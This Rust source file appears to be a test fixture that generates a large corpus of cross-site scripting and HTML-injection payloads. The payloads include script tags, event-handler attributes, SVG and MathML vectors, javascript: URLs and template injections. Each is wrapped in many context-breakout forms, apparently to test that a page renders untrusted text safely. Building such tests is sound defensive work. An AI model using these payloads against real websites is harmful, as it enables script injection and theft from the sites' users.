//! What a stranger would write to make the window do something (`reliability.md` B9, `T9.1`). Each text, if anything of it
//! ran or were loaded, would set `window.__ran`, rename the window, lead it away, or call at an address.

use std::collections::BTreeSet;

/// Every text: each trick in each wrapping, once. `call` is the address at which they would call.
pub fn all(call: &str) -> Vec<String> {
    let tricks = [elements(call), attributes(call), graphics(call), words(call)].concat();
    let texts: BTreeSet<String> = tricks.iter().flat_map(|trick| wrapped(trick)).collect();
    // By length and then by letter they would stand in groups of a kind; the steps of a prime mix them.
    let sorted: Vec<String> = texts.into_iter().collect();
    (0..sorted.len()).map(|at| sorted[at * 389 % sorted.len()].clone()).collect()
}

/// Elements that run, load or lead away.
fn elements(call: &str) -> Vec<String> {
    vec![
        "<script>window.__ran=1</script>".to_owned(),
        format!("<script src={call}></script>"),
        "<ScRiPt >window.__ran=1</sCrIpT\t>".to_owned(),
        format!("<script type=module>import'{call}'</script>"),
        "<scr<script>ipt>window.__ran=1</script>".to_owned(),
        format!("<iframe src={call}></iframe>"),
        "<iframe srcdoc='<script>top.__ran=1</script>'>".to_owned(),
        format!("<object data={call}></object>"),
        format!("<embed src={call}>"),
        format!("<link rel=stylesheet href={call}>"),
        format!("<link rel=prefetch href={call}>"),
        format!("<meta http-equiv=refresh content='0;url={call}'>"),
        format!("<base href={call}>"),
        format!("<form action={call}><button autofocus>x</form>"),
        format!("<style>@import '{call}'</style>"),
        format!("<style>*{{background:url({call})}}</style>"),
        format!("<video autoplay><source src={call}></video>"),
        format!("<audio autoplay src={call}>"),
        format!("<template shadowrootmode=open><img src={call}></template>"),
        "<plaintext>".to_owned(),
    ]
}

/// Attributes that run or load.
fn attributes(call: &str) -> Vec<String> {
    vec![
        "<img src=x onerror=window.__ran=1>".to_owned(),
        format!("<img src={call}>"),
        format!("<img srcset='{call} 1x'>"),
        "<img/src=x/onerror=window.__ran=1//".to_owned(),
        "<body onload=window.__ran=1>".to_owned(),
        "<details open ontoggle=window.__ran=1>".to_owned(),
        "<input autofocus onfocus=window.__ran=1>".to_owned(),
        "<marquee onstart=window.__ran=1>".to_owned(),
        "<video src=x onerror=window.__ran=1>".to_owned(),
        "<a href=javascript:window.__ran=1 autofocus>x</a>".to_owned(),
        format!("<a href=x ping={call}>x</a>"),
        format!("<p style=background:url({call})>x"),
        "<p style=position:fixed;inset:0;z-index:9999;background:red>x".to_owned(),
        "<p contenteditable autofocus onfocus=window.__ran=1>x".to_owned(),
    ]
}

/// Pictures that are programs, and mathematics.
fn graphics(call: &str) -> Vec<String> {
    vec![
        "<svg onload=window.__ran=1>".to_owned(),
        "<svg><script>window.__ran=1</script></svg>".to_owned(),
        format!("<svg><image href={call}></svg>"),
        format!("<svg><use href='{call}#x'></svg>"),
        "<svg><animate onbegin=window.__ran=1 attributeName=x>".to_owned(),
        "<svg><foreignObject><img src=x onerror=window.__ran=1>".to_owned(),
        "<math><mtext><img src=x onerror=window.__ran=1>".to_owned(),
    ]
}

/// Templates, addresses, formats, and letters that disturb what stands around them.
fn words(call: &str) -> Vec<String> {
    vec![
        "{{constructor.constructor('window.__ran=1')()}}".to_owned(),
        "${window.__ran=1}".to_owned(),
        "{@html '<img src=x onerror=window.__ran=1>'}".to_owned(),
        "javascript:window.__ran=1".to_owned(),
        format!("![x]({call})"),
        format!("https://good.example@{}", call.trim_start_matches("http://")),
        "https://x.example/\"onmouseover=window.__ran=1".to_owned(),
        "';document.title='ran';window.__ran=1//".to_owned(),
        "+ADw-script+AD4-window.__ran=1+ADw-/script+AD4-".to_owned(),
        format!("url({call})"),
        "\u{202e}\u{2066}\u{2067}\u{202d}window.__ran=1".to_owned(),
        format!("a{}", "\u{301}\u{489}".repeat(100)),
        "W".repeat(1500),
        "\u{fdfd}".repeat(60),
        "\u{0}\u{1}\u{7}\u{8}\u{1b}[2J\u{7f}\u{85}\u{2028}\u{feff}\u{ffff}".to_owned(),
    ]
}

/// A trick in everything it would have to break out of.
fn wrapped(trick: &str) -> Vec<String> {
    let entities = trick.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;");
    let percent = trick.replace('<', "%3C").replace('>', "%3E").replace('"', "%22");
    vec![
        trick.to_owned(),
        format!("\">{trick}"),
        format!("'>{trick}"),
        format!("`>{trick}"),
        format!("\" autofocus onfocus=window.__ran=1 x=\"{trick}"),
        format!("</span>{trick}"),
        format!("</bdi></p></div>{trick}"),
        format!("<![CDATA[{trick}]]>"),
        format!("<!--{trick}-->"),
        format!("--!>{trick}"),
        format!("</script>{trick}"),
        format!("</style>{trick}"),
        format!("</textarea></title>{trick}"),
        format!("</svg></template>{trick}"),
        format!("\n{trick}\r\n"),
        format!("\u{202e}{trick}\u{202c}"),
        format!("{{{{{trick}}}}}"),
        format!("${{{trick}}}"),
        format!("\\\"{trick}\\"),
        format!("https://x.example/?q={trick}"),
        trick.replace('<', "<\0"),
        trick.replace('<', "\u{ff1c}"),
        format!("{entities} "),
        format!("{percent} "),
    ]
}
